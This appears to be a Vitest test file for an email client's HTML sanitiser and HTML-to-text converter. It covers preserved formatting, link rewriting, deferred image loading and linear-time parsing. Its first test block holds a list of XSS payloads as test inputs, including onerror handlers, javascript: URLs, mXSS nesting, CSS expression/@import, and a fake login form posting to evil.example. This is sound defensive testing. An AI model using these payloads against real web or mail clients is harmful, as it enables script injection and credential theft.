import { existsSync, readFileSync } from 'node:fs'
import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { sanitiseMailHtml } from './sanitise.ts'
import { textFromHtml } from './text-from-html.ts'

const DANGEROUS = new Set(
  'script style iframe frame frameset object embed applet form input button textarea select option link meta base svg math template noscript audio video source track portal dialog marquee xml plaintext xmp noembed title body html head'.split(
    ' ',
  ),
)
const SAFE_URL = /^(?:https?:\/\/|mailto:|tel:|data:image\/(?:png|gif|jpe?g|webp);base64,)/i
const URL_ATTRIBUTE = /^(?:href|src|srcset|action|formaction|xlink:href|background|poster|cite|longdesc|usemap|ping|data)$/i

/** What a browser could still be hurt by, found by parsing the result again. */
function dangers(html: string): string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (DANGEROUS.has(name)) found.push(`<${name}>`)
      for (const [key, value] of Object.entries(attributes)) {
        if (/^on/i.test(key)) found.push(`${name} ${key}`)
        if (URL_ATTRIBUTE.test(key) && !SAFE_URL.test(value)) found.push(`${key}=${value}`)
        if (name === 'img' && key === 'src' && !value.startsWith('data:')) found.push(`loads ${value}`)
        if (key === 'style' && /url|expression|import|position|behaviou?r|binding|\\|@|float|display|\dv[hwm]|\d[dls]vh/i.test(value))
          found.push(`style ${value}`)
        if (/^(?:id|class|name|srcdoc|is|slot)$/i.test(key)) found.push(key)
      }
    },
  })
  parser.end(html)
  return found
}

describe('what a stranger writes cannot act', () => {
  test('the check itself finds dangers', () => {
    expect(dangers('<img src=x onerror=alert(1)><script>1</script><a href="javascript:1">x</a><p style="position:fixed">')).toHaveLength(6)
  })

  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><p>x',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" vbscript:x">x</a><a href="data:text/html,x">y</a><a href="file:///etc">z</a><a href="//evil.example">w</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>@import url(//evil.example);a[href^=h]{background:url(//x)}</style>',
    '<p style="background:url(//evil.example);position:fixed;top:0;color:red">',
    '<div style="height:100vh;min-width:50VW;width:9 vmax"><table style="height:1e2svh">',
    '<p style="width:expression(alert(1));color:\\72 ed;-moz-binding:url(x)">',
    '<form action=//evil.example><input name=password><button>Log in</button></form>',
    '<link rel=prefetch href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
    '<video poster=//evil.example><source src=x onerror=alert(1)></video><object data=x></object><embed src=x>',
    '<table background="//evil.example"><td background="javascript:1">x',
    '<img srcset="//evil.example 2x" src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<p id=app class=admin name=x>x</p>',
  ])('%s', (payload) => {
    expect(dangers(sanitiseMailHtml(payload) ?? '')).toEqual([])
  })

  const corpus = new URL('../../../../shared/data/security/xss.jsonl', import.meta.url)
  if (!existsSync(corpus)) console.log('skipped: known XSS vectors, the shared test data are not here')
  test.runIf(existsSync(corpus))('none of the known vectors leaves anything dangerous', () => {
    const rows = readFileSync(corpus, 'utf8')
      .trim()
      .split('\n')
      .map((row) => JSON.parse(row) as { id: string; payload: string })
    const bad = rows.map((row) => [row.id, dangers(sanitiseMailHtml(row.payload) ?? '')] as const).filter(([, found]) => found.length > 0)
    expect(rows.length).toBeGreaterThan(700)
    expect(rows.filter((row) => dangers(row.payload).length > 0).length).toBeGreaterThan(400)
    expect(bad).toEqual([])
  })
})

describe('what a correspondent writes stays readable', () => {
  test('type, tables, lists and safe links stay', () => {
    const html =
      '<h1>T</h1><p style="color:#c00;margin:0 0 1em">a <b>b</b></p><table><tr><td colspan="2">c</td></tr></table><ul><li>d</li></ul>'
    expect(sanitiseMailHtml(html)).toBe(html.replace('0 0 1em', '0 0 1em'))
    expect(sanitiseMailHtml('<a href="https://x.example/?a=1&amp;b=2">l</a>')).toBe(
      '<a target="_blank" rel="noopener noreferrer nofollow" href="https://x.example/?a=1&amp;b=2">l</a>',
    )
  })

  test('where a link opens is ours to say, also for what only looks like one', () => {
    const once = sanitiseMailHtml('<a href="https://x.example/" target="_self" rel="opener" title="<a b">1 &lt;a href</a>')!
    expect(once).toBe('<a target="_blank" rel="noopener noreferrer nofollow" title="&lt;a b" href="https://x.example/">1 &lt;a href</a>')
    expect(sanitiseMailHtml(once)).toBe(once)
  })

  test('pictures wait for the viewer', () => {
    expect(sanitiseMailHtml('<img src="cid:a%40b" alt="A">')).toBe('<img data-cid="a@b" alt="A" />')
    expect(sanitiseMailHtml('<img src="//x.example/p.png">')).toBe('<img data-remote-src="https://x.example/p.png" />')
    expect(sanitiseMailHtml('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe('<img src="data:image/png;base64,iVBORw0KGgo=" />')
  })

  test.each([
    ['too many tags', '<b>x</b>'.repeat(150_000)],
    ['too deep', '<div>'.repeat(600)],
    ['too long', 'x'.repeat(6_000_000)],
  ])('%s is refused, so that the text is shown instead', (_case, html) => {
    expect(sanitiseMailHtml(html)).toBeNull()
  })
})

describe('HTML as text', () => {
  test('paragraphs, lists, tables, entities and pictures read as they look', () => {
    expect(
      textFromHtml(
        '<style>p{}</style><p>Gr&uuml;&szlig;e &amp; &#128512;</p><ul><li>one<li>two</ul><table><tr><td>a</td><td>b</td></tr></table>x<br>y<img alt="logo">',
      ),
    ).toBe('Grüße & 😀\n\n- one\n- two\n\na b\n\nx\nylogo')
  })

  test('quotes and signature blocks are marked as in plain text', () => {
    expect(textFromHtml('Hi<blockquote>old<blockquote>older</blockquote></blockquote>bye<div class="gmail_signature">Anna</div>')).toBe(
      'Hi\n\n> old\n>\n>> older\n\nbye\n--\nAnna',
    )
  })

  test('white words on a coloured background stay readable', () => {
    expect(sanitiseMailHtml('<p style="background:#036;color:#fff">Hi</p>')).toBe('<p style="background-color:#036;color:#fff">Hi</p>')
    expect(sanitiseMailHtml('<p style="background:url(https://x.example/a)">Hi</p>')).toBe('<p>Hi</p>')
  })

  test.each([
    ['tables', '<table><tr><td>'],
    ['spans', '<span>x</span> '],
    ['quotes', '<blockquote>x'],
    ['open brackets', '<'],
    ['attributes', '<a x=1 y="2">'],
    ['entities', '&amp;'],
  ])('4 MB of %s take no more than linear time', (_case, piece) => {
    const timeOf = (size: number) => {
      const html = piece.repeat(size / piece.length)
      const runs = [0, 1, 2].map(() => {
        const start = performance.now()
        textFromHtml(html)
        return performance.now() - start
      })
      return Math.min(...runs)
    }
    timeOf(100_000)
    // Eight times the text: 8 times as long, or 64 times when it is quadratic. What lies between is the machine's.
    const one = timeOf(500_000)
    expect(timeOf(4_000_000)).toBeLessThan(Math.max(one, 25) * 24)
  })
})
